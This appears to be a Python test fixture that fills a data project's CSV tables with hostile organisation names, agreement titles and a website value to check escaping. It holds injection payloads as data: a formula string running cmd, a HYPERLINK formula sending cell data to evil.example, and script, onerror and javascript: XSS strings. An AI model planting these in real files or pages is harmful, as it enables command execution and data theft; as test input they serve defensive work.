"""An edition whose names, titles and addresses are hostile, built through the tables as any other; all invented."""

from __future__ import annotations

import csv
from collections.abc import Mapping
from pathlib import Path

from graph import open_edition
from tests.conftest import Built, copy_small, settings_of
from tests.editions import kept

# Row id -> name of an organization, and title of its agreement with the home region.
NAMES: Mapping[str, str] = {
    "x-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "x-bidi": "Vlevo \u202evlarp\u202c \u2067ovarpv",
    "x-cdata": "]]><!-- & &amp; %lt; <![CDATA[ ?>",
    "x-cyrillic": "Бранденбург",
    "x-drive": "javascript:hit()",
    "x-equals": '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "x-han": "安徽省",
    "x-image": "<img src=x onerror=\"hit()\"><a href='javascript:hit()'>x</a>",
    "x-letters": "Příliš žluťoučký kůň úpěl ďábelské ódy e\u0301",
    "x-long": "Dlouhé jméno " * 154 + "konec",
    "x-marks": "\"'`><",
    "x-minus": "-1+1",
    "x-nothing": "a\ufffeb\uffffc\u2028d\u2029e\ufeff",
    "x-script": "</script></style></title></textarea><script>hit()</script>",
    "x-svg": "</svg><svg onload=hit()><script href='http://evil.example/x.js'/>",
    "x-template": "{{ 7*7 }} ${7*7} %(x)s {% raw %} {0}",
    "x-wide": "x" * 2000,
}
WEBSITE = "https://evil.example/\"onmouseover=hit()//'><script>hit()</script>"


def hostile_tables(folder: Path) -> Path:
    """Add the hostile rows to the miniature: a partner by agreement for each name, and a source."""
    copy_small(folder)
    for row_id, name in NAMES.items():
        add_row(
            folder, "organisations", id=row_id, kind="association", name_cs=name, name_en=name, country="DE",
            website=WEBSITE, sources="src-hostile",
        )  # fmt: skip
        add_row(
            folder, "agreements", id=f"agr-{row_id}", kind="cooperation", title_cs=name, title_en=name,
            parties=f"vzorov;{row_id}", signed="2010-02", sources="src-hostile",
        )  # fmt: skip
        add_row(
            folder, "status_periods", id=f"sta-{row_id}-1", agreement=f"agr-{row_id}", status="active",
            sources="src-hostile",
        )  # fmt: skip
    add_row(folder, "memberships", id="mem-x", member="x-image", organisation="x-script", sources="src-hostile")
    add_row(folder, "publishers", id="pub-x", publisher=NAMES["x-marks"], organisation="x-marks")
    add_row(folder, "sources", id="src-hostile", kind="web_page", title=NAMES["x-image"], publisher="pub-x",
            url=WEBSITE, published="2015", language="cs")  # fmt: skip
    return folder


def add_row(folder: Path, table: str, **cells: str) -> None:
    """Add a row to a table, which stays sorted by its first column."""
    path = folder / f"{table}.csv"
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    names = list(rows[0])
    assert set(cells) <= set(names)
    rows = sorted([*rows, {name: cells.get(name, "") for name in names}], key=lambda row: row[names[0]])
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, names, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def build_hostile(folder: Path) -> Built:
    """Build the edition; closing the store is up to the caller."""
    settings = kept(settings_of(hostile_tables(folder)))
    edition = open_edition(settings)
    return Built(settings, edition, edition.open())
